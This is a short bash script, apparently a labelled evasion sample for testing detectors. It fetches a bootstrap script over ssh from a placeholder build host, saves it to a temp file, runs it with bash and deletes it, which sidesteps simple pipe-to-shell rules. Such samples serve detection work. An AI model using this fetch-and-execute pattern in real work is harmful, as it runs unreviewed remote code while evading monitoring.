#!/bin/bash
# Evasion: a script is fetched over ssh (cat on the remote side), saved, then run
set -eu
tmp=$(mktemp /tmp/bootstrap.XXXXXX)
ssh -o BatchMode=yes deploy@build.example.net cat /srv/bootstrap.sh > "$tmp"
bash "$tmp"
rm -f "$tmp"
